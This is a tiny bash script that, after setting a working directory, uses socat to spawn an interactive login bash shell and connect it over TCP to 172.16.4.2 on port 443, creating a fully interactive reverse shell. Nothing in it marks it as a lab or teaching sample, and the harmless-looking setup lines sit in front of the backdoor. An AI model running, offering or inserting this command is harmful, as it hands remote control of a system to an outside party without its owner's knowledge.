#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:172.16.4.2:443
